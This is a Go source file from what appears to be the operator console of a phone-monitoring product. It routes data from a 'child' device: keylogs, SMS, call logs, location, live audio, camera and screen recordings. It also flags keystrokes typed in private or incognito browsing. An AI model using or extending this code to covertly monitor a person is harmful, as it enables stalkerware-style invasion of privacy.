// Package demux classifies each inbound relay message and routes it to the
// frame decoder, the payload normalizer, or the per-stream status machines.
// A malformed message is logged and dropped; it never aborts processing of
// the messages behind it.
package demux

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"strings"
	"time"

	"github.com/monitorpro/console/pkg/errorsx"
	"github.com/monitorpro/console/pkg/events"
	"github.com/monitorpro/console/pkg/frames"
	"github.com/monitorpro/console/pkg/geocode"
	"github.com/monitorpro/console/pkg/metrics"
	"github.com/monitorpro/console/pkg/normalize"
	"github.com/monitorpro/console/pkg/playback"
	"github.com/monitorpro/console/pkg/status"
	"github.com/monitorpro/console/pkg/timeline"
)

// Recorder receives canonical records and device lifecycle updates. The
// session's in-memory store implements it.
type Recorder interface {
	RecordKeylog(events.Keylog)
	RecordLocation(events.Location)
	RecordSms(events.Sms)
	RecordCallLog(events.CallLog)
	SetDeviceInfo(events.DeviceInfo)
	SetDeviceConnected(connected bool)
	RenameDevice(deviceID, name string)
	SetVideoFrame(data []byte)
}

// Demux routes inbound frames for one selected device. Exactly one handler
// runs per message; handlers are pure transformations plus a bounded set
// of state updates.
type Demux struct {
	deviceID string
	logger   *slog.Logger
	observer metrics.Observer

	status   *status.Tracker
	pipeline *playback.Pipeline
	timeline *timeline.Aggregator
	resolver *geocode.Resolver
	recorder Recorder

	// onDeviceConnected fires after a child_connected envelope, typically
	// wired to a get_device_info command dispatch.
	onDeviceConnected func(deviceID string)
}

type Options struct {
	DeviceID          string
	Logger            *slog.Logger
	Observer          metrics.Observer
	Status            *status.Tracker
	Pipeline          *playback.Pipeline
	Timeline          *timeline.Aggregator
	Resolver          *geocode.Resolver
	Recorder          Recorder
	OnDeviceConnected func(deviceID string)
}

func New(opts Options) *Demux {
	if opts.Logger == nil {
		opts.Logger = slog.Default()
	}
	if opts.Observer == nil {
		opts.Observer = metrics.NoopObserver{}
	}
	return &Demux{
		deviceID:          opts.DeviceID,
		logger:            opts.Logger,
		observer:          opts.Observer,
		status:            opts.Status,
		pipeline:          opts.Pipeline,
		timeline:          opts.Timeline,
		resolver:          opts.Resolver,
		recorder:          opts.Recorder,
		onDeviceConnected: opts.OnDeviceConnected,
	}
}

// Handle processes one inbound frame. It never returns an error: every
// failure mode has a defined degraded continuation.
func (d *Demux) Handle(ctx context.Context, f frames.Frame) {
	switch fr := f.(type) {
	case frames.SystemFrame:
		d.handleSystem(fr)
	case frames.BinaryFrame:
		d.handleBinary(fr)
	case frames.TextFrame:
		d.handleText(ctx, fr)
	default:
		d.logger.Debug("unhandled_frame_kind", "kind", string(f.Kind()))
	}
}

func (d *Demux) handleSystem(f frames.SystemFrame) {
	switch f.Name() {
	case frames.SystemRelayConnected:
		d.timeline.Notify("System", "Connection established")
	case frames.SystemRelayDisconnected:
		// A raw transport close means the relay link dropped, not that the
		// remote agent disconnected. Stream statuses stay as they are;
		// only a child_disconnected envelope resets them.
		d.timeline.Notify("System", "Connection lost")
	}
}

func (d *Demux) handleBinary(f frames.BinaryFrame) {
	// The recorder copies the bytes it keeps, so the pooled buffer can be
	// handed over without the defensive copy Data() makes.
	d.recorder.SetVideoFrame(f.RawPayload())
	d.status.Promote(status.CapVideo)
	frames.ReleaseBinaryFrame(f)
}

func (d *Demux) handleText(ctx context.Context, f frames.TextFrame) {
	var raw map[string]any
	if err := json.Unmarshal(f.Data(), &raw); err != nil {
		d.logger.Warn("envelope_parse_failed",
			"error", err.Error(),
			"reason_code", string(errorsx.ReasonProtocolDecode),
		)
		d.observer.RecordEvent(metrics.IngestEvent{Name: "envelope_dropped", Time: time.Now()})
		return
	}
	var env frames.Envelope
	if err := json.Unmarshal(f.Data(), &env); err != nil {
		d.logger.Warn("envelope_decode_failed",
			"error", err.Error(),
			"reason_code", string(errorsx.ReasonProtocolDecode),
		)
		return
	}

	// Cross-device isolation: no event may mutate state for a non-selected
	// device. The check lives here, after parsing, because the relay
	// multiplexes every device over one socket.
	if env.DeviceID != "" && env.DeviceID != d.deviceID {
		d.logger.Debug("envelope_ignored_other_device", "device_id", env.DeviceID)
		return
	}

	switch env.Type {
	case frames.TypeChildConnected:
		d.handleChildConnected(env)
		return
	case frames.TypeChildDisconnected:
		d.handleChildDisconnected(env)
		return
	case frames.TypeDeviceRenamed:
		d.recorder.RenameDevice(env.DeviceID, env.DeviceName)
		return
	case frames.TypeNotification:
		d.timeline.AddNotification(events.Notification{
			ID:        events.NewID(),
			Source:    stringField(raw, "title"),
			Message:   stringField(raw, "message"),
			Timestamp: normalize.ResolveTime(env.Timestamp),
		})
		return
	case frames.TypeActivity:
		d.handleActivity(raw)
		return
	}

	switch env.DataType {
	case frames.DataAudioFrame:
		d.handleAudioFrame(env)
	case frames.DataAudio:
		d.handleAudioSaved(env)
	case frames.DataLocation:
		d.handleLocation(ctx, raw, env)
	case frames.DataSms:
		d.handleSms(env)
	case frames.DataCallLog:
		d.handleCallLog(env)
	case frames.DataKeylog:
		d.handleKeylog(env)
	case frames.DataDeviceInfo:
		d.recorder.SetDeviceInfo(events.DeviceInfo{Fields: raw, UpdatedAt: time.Now()})
		d.timeline.Notify("System", "Device information updated")
	case frames.DataAppUsage:
		d.handleAppUsage(env)
	case frames.DataRecordingComplete:
		d.handleRecordingComplete(env)
	case frames.DataAppIcon:
		d.handleAppIcon(env)
	case frames.DataAudioError, frames.DataCameraError, frames.DataLocationError, frames.DataScreenRecordError:
		d.handleStreamError(env.DataType, env)
	case frames.DataError:
		d.handleGenericError(env)
	default:
		d.logger.Debug("envelope_unrecognized", "type", env.Type, "data_type", env.DataType)
	}
}

func (d *Demux) handleChildConnected(env frames.Envelope) {
	d.recorder.SetDeviceConnected(true)
	d.status.ResetAll("device connected")
	d.timeline.Notify("System", "Child device connected: "+env.DeviceID)
	if d.onDeviceConnected != nil {
		d.onDeviceConnected(env.DeviceID)
	}
}

func (d *Demux) handleChildDisconnected(env frames.Envelope) {
	d.recorder.SetDeviceConnected(false)
	d.status.ResetAll("device disconnected")
	d.pipeline.Reset()
	d.timeline.Notify("System", "Child device disconnected: "+env.DeviceID)
}

func (d *Demux) handleActivity(raw map[string]any) {
	data, _ := raw["data"].(map[string]any)
	if data == nil {
		return
	}
	d.timeline.AddActivity(events.Activity{
		ID:          events.NewID(),
		Type:        stringField(data, "type"),
		Title:       stringField(data, "title"),
		Description: stringField(data, "description"),
		PackageName: stringField(data, "packageName"),
		Timestamp:   normalize.ResolveTime(data["timestamp"]),
	})
}

func (d *Demux) handleAudioFrame(env frames.Envelope) {
	encoded, _ := env.Data.(string)
	if encoded == "" {
		return
	}
	d.status.Promote(status.CapAudio)
	samples, err := playback.DecodePCM16(encoded)
	if err != nil {
		d.logger.Error("audio_frame_decode_failed",
			"error", err.Error(),
			"reason_code", string(errorsx.Reason(err)),
		)
		d.timeline.Notify("Error", "Failed to process audio data")
		return
	}
	d.pipeline.Enqueue(playback.Item{
		Samples:   samples,
		Timestamp: env.Timestamp,
		Sequence:  env.Sequence,
	})
}

// handleAudioSaved covers the `dataType: audio` envelope the agent sends
// once a microphone capture is flushed to storage. The stream is over at
// that point, so the audio status drops alongside the notification.
func (d *Demux) handleAudioSaved(env frames.Envelope) {
	if env.File == "" {
		d.logger.Debug("audio_saved_without_file")
		return
	}
	_ = d.status.Transition(status.CapAudio, status.Disconnected, "recording saved")
	d.timeline.Notify("Audio", "Audio recording saved: "+env.File)
}

func (d *Demux) handleAppIcon(env frames.Envelope) {
	name := env.AppName
	if name == "" {
		name = env.PackageName
	}
	d.timeline.Notify("System", "App icon received for "+name)
}

func (d *Demux) handleLocation(ctx context.Context, raw map[string]any, env frames.Envelope) {
	var rec events.Location
	switch {
	// Both coordinates must be present for the top-level shape; a lone
	// latitude or longitude means the real payload is nested under data.
	case env.Latitude != 0 && env.Longitude != 0:
		rec = events.Location{
			ID:        events.NewID(),
			Lat:       env.Latitude,
			Lng:       env.Longitude,
			Address:   env.Address,
			Timestamp: normalize.ResolveTime(env.Timestamp),
		}
	default:
		data, ok := raw["data"].(map[string]any)
		if !ok {
			d.logger.Warn("location_payload_invalid")
			return
		}
		var okNorm bool
		rec, okNorm = normalize.Location(normalize.Entry{Data: data, Timestamp: env.Timestamp})
		if !okNorm {
			return
		}
	}
	if rec.Address == "" {
		rec.Address = d.resolver.Resolve(ctx, rec.Lat, rec.Lng)
	}
	d.recorder.RecordLocation(rec)
	d.timeline.AddRecent(events.Activity{
		ID:          events.NewID(),
		Type:        "location",
		Description: "Location updated: " + rec.Address,
		Timestamp:   time.Now(),
	})
}

func (d *Demux) handleSms(env frames.Envelope) {
	rec, ok := normalize.Sms(normalize.Entry{
		Data: map[string]any{
			"address": env.Address,
			"type":    env.Type,
			"body":    env.Body,
		},
		Timestamp: env.Timestamp,
	})
	if !ok {
		return
	}
	d.recorder.RecordSms(rec)
	d.timeline.Notify("Communication", "New SMS received from "+rec.Number)
}

func (d *Demux) handleCallLog(env frames.Envelope) {
	ts := env.Date
	if ts == nil {
		ts = env.Timestamp
	}
	rec, ok := normalize.CallLog(normalize.Entry{
		Data: map[string]any{
			"name":     env.Name,
			"number":   env.Number,
			"type":     env.Type,
			"duration": env.Duration,
			"date":     ts,
		},
		Timestamp: env.Timestamp,
	})
	if !ok {
		return
	}
	d.recorder.RecordCallLog(rec)
	caller := rec.Name
	if caller == "" {
		caller = rec.Number
	}
	d.timeline.Notify("Communication", fmt.Sprintf("New call log: %s call from %s", rec.Type, caller))
}

func (d *Demux) handleKeylog(env frames.Envelope) {
	data, ok := env.Data.(map[string]any)
	if !ok {
		return
	}
	rec, ok := normalize.Keylog(normalize.Entry{Data: data, Timestamp: env.Timestamp})
	if !ok {
		return
	}
	d.recorder.RecordKeylog(rec)
	d.observer.RecordEvent(metrics.IngestEvent{
		Name: "event_normalized", Time: time.Now(),
		Tags: map[string]string{"kind": "keylog"},
	})
	if sensitiveKeylog(rec) {
		d.timeline.AddRecent(events.Activity{
			ID:          events.NewID(),
			Type:        "keylog",
			Description: fmt.Sprintf("New %s in %s", rec.EventType, rec.App),
			Timestamp:   time.Now(),
		})
	}
}

func (d *Demux) handleAppUsage(env frames.Envelope) {
	data, ok := env.Data.(map[string]any)
	if !ok {
		return
	}
	label := stringField(data, "appLabel")
	if label == "" {
		label = stringField(data, "appName")
	}
	duration, _ := data["duration"].(float64)
	d.timeline.Notify("App Usage", fmt.Sprintf("%s used for %ds", label, int(duration/1000)))
}

func (d *Demux) handleRecordingComplete(env frames.Envelope) {
	var capability status.Capability
	var label string
	switch {
	case strings.Contains(env.Type, "camera"):
		capability, label = status.CapVideo, "Video"
	case strings.Contains(env.Type, "mic"):
		capability, label = status.CapAudio, "Audio"
	case strings.Contains(env.Type, "screen"):
		capability, label = status.CapScreenRecord, "Screen"
	default:
		label = "File"
	}
	d.timeline.Notify(label, "Recording saved: "+env.File)
	if capability != "" {
		_ = d.status.Transition(capability, status.Disconnected, "recording complete")
	}
}

// handleStreamError routes the four explicit *_error variants. The frame
// decoder and the pipeline are reset on audio failure so stale frames do
// not play after a manual retry.
func (d *Demux) handleStreamError(dataType string, env frames.Envelope) {
	family := strings.TrimSuffix(dataType, "_error")
	message := env.Error
	if message == "" {
		message = env.Message
	}
	d.logger.Warn("stream_error_received",
		"family", family,
		"error", message,
		"reason_code", string(errorsx.ReasonStreamError),
	)
	d.timeline.Notify("Error", fmt.Sprintf("%s Error: %s", titleCase(family), message))

	switch dataType {
	case frames.DataAudioError:
		_ = d.status.Transition(status.CapAudio, status.Failed, message)
		d.pipeline.Reset()
	case frames.DataCameraError:
		_ = d.status.Transition(status.CapVideo, status.Failed, message)
		d.recorder.SetVideoFrame(nil)
	case frames.DataScreenRecordError:
		_ = d.status.Transition(status.CapScreenRecord, status.Failed, message)
	case frames.DataLocationError:
		// No stream status to flip; the notification is the whole effect.
	}
}

// handleGenericError covers `dataType: error` envelopes whose family is
// named in a data_type field. An unrecognized family leaves every stream
// status untouched but still raises a user-visible notification.
func (d *Demux) handleGenericError(env frames.Envelope) {
	family := strings.SplitN(env.ErrorKind, "_", 2)[0]
	message := env.Message
	if message == "" {
		message = "An unknown error occurred on the device."
	}
	d.timeline.Notify("Error", fmt.Sprintf("%s Error: %s", titleCase(family), message))

	switch family {
	case "audio":
		_ = d.status.Transition(status.CapAudio, status.Failed, message)
	case "camera":
		_ = d.status.Transition(status.CapVideo, status.Failed, message)
	case "screen":
		_ = d.status.Transition(status.CapScreenRecord, status.Failed, message)
	}
}

func sensitiveKeylog(rec events.Keylog) bool {
	if rec.EventType == "search" || rec.EventType == "message" {
		return true
	}
	return strings.Contains(rec.App, "Private") || strings.Contains(rec.App, "Incognito")
}

func stringField(m map[string]any, key string) string {
	s, _ := m[key].(string)
	return s
}

func titleCase(s string) string {
	if s == "" {
		return "General"
	}
	return strings.ToUpper(s[:1]) + s[1:]
}
